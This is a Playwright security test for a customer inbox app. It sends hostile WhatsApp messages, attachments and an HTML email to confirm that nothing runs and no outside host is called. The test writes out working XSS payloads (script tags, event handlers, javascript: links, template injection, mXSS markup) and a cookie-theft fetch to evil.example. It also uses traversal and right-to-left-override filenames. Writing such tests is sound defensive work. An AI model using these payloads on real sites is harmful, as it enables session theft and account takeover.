import type { Page } from '@playwright/test'
import { expect, test } from '../../atrium.ts'
import { deliverMail } from '../../support/mail/raw.ts'

/** What it does where it runs: marks the window and calls home. */
const act = "top.hurt=1;fetch('https://evil.example/'+document.cookie)"
const payloads = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `"><iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<a href="javascript:${act}">Click here</a>`,
  `[Click here](javascript:${act})`,
  `javascript:${act}`,
  `{{constructor.constructor("${act}")()}}`,
  `\u202e<style>@import'https://evil.example/x.css';</style>`,
]

const html = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:url(https://evil.example/b.png)}@import url(https://evil.example/c.css);</style></head>
<body onload="${act}" background="https://evil.example/d.png">
${payloads.join('\n')}
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x">
<form action="https://evil.example/f"><input name="p" autofocus onfocus="${act}"><button>Send</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;"></table></mtext></math>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4" onerror="${act}"></video>
<div style="background-image:url('https://evil.example/s.png');position:fixed;inset:0">The words of this mail</div>
</body></html>`

test('What customers send runs nothing and calls nobody', async ({
  agent,
  page,
  context,
  sandbox,
  api,
  atrium,
  shot,
}) => {
  test.slow()
  const outside: string[] = []
  await context.route(/.*/, (route) => {
    const { origin } = new URL(route.request().url())
    if (origin === atrium.url) return route.continue()
    outside.push(route.request().url())
    return route.abort()
  })
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })

  const name = `Mallory <img src=x onerror="${act}">`
  const mallory = await sandbox.add('whatsapp', { name, phone: '+4915112340081' })
  await page.goto('/inbox/open')
  for (const payload of payloads) await mallory.says(payload)
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"><script>${act}</script></svg>`
  const page2 = `<html><script>${act}</script></html>`
  for (const [file, type, text] of [
    [`"><img src=x onerror=${act.replaceAll('/', '')}>.png`, 'image/png', svg],
    ['../../etc/\u202egnp.svg', 'image/svg+xml', svg],
    ['invoice.html', 'text/html', page2],
  ] as const)
    await mallory.sends({ name: file, type, data: Buffer.from(text), as: 'document' })

  await test.step('The timeline, the list, the panel', async () => {
    await agent.row('Mallory').click()
    for (const payload of payloads.slice(0, 8))
      await expect(agent.timeline.getByText(payload).last()).toBeAttached()
    await expect(agent.message('invoice.html')).toBeVisible()
    await expect(agent.timeline.getByText('gnp.svg', { exact: true })).toBeVisible()
    await expect(agent.timeline.getByRole('link', { name: 'Click here' })).toHaveCount(0)
    await shot(page, 'hostile')
  })

  await test.step('Every link is plain; the files come as downloads of no type that runs', async () => {
    // They are fetched after the messages that carry them.
    await expect(agent.timeline.locator('a[href^="/api/v1/attachments/"]')).toHaveCount(3)
    const links = await agent.timeline.getByRole('link').all()
    const addresses = await Promise.all(links.map((link) => link.getAttribute('href')))
    const files = addresses.filter((href) => href?.startsWith('/api/v1/attachments/'))
    expect(files).toHaveLength(3)
    for (const link of links)
      await expect(link).toHaveAttribute(
        'href',
        /^(https:\/\/evil\.example\/|\/api\/v1\/attachments\/)/,
      )
    for (const href of files) {
      const headers = (await page.request.get(href ?? '')).headers()
      expect(headers['x-content-type-options']).toBe('nosniff')
      expect(headers['content-security-policy']).toMatch(/default-src 'none';.* sandbox$/)
      expect(headers['content-type']).toMatch(/^(image\/png|application\/octet-stream)$/)
    }
  })

  await test.step('A mail, as text and as its sender made it', async () => {
    await deliverMail(
      api,
      [
        'Return-Path: <eve@evil.example>',
        `From: "Eve ${act.replaceAll('"', '')}" <eve@evil.example>`,
        'To: hello@studio.example',
        `Subject: Invoice <img src=x onerror=${act}>`,
        'Message-ID: <hostile-1@evil.example>',
        'Date: Sat, 21 Nov 2026 09:00:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        html,
        '',
      ].join('\n'),
    )
    const row = agent.list.getByRole('link').filter({ hasText: 'Invoice <img' })
    await row.click()
    await expect(agent.timeline.getByText('The words of this mail')).toBeVisible()
    await agent.timeline.getByRole('button', { name: 'Show original' }).click()
    const original = agent.timeline.frameLocator('iframe')
    await expect(original.getByText('The words of this mail')).toBeAttached()
    const dangerous =
      'script, form, object, embed, iframe, base[href], link, [onerror], [onload], [src^=http]'
    await expect(original.locator(dangerous)).toHaveCount(0)
    await shot(page, 'hostile-mail')
  })

  await test.step('Search, palette, contacts', async () => {
    await page.goto('/search?q=onerror')
    await expect(page.getByRole('link').filter({ hasText: 'Mallory' }).first()).toBeVisible()
    await page.goto('/contacts')
    await page.getByRole('link').filter({ hasText: 'Mallory' }).click()
    await expect(page.getByRole('heading', { name: 'Addresses' })).toBeVisible()
    await page.keyboard.press('Control+K')
    await page.getByRole('dialog').getByRole('textbox').fill('Mallory')
    await expect(page.getByRole('dialog').getByText('Mallory').last()).toBeVisible()
    await expectUnhurt(page)
  })
  expect(outside).toEqual([])
  expect(dialogs).toEqual([])
})

async function expectUnhurt(page: Page): Promise<void> {
  expect(await page.evaluate(() => 'hurt' in window)).toBe(false)
}
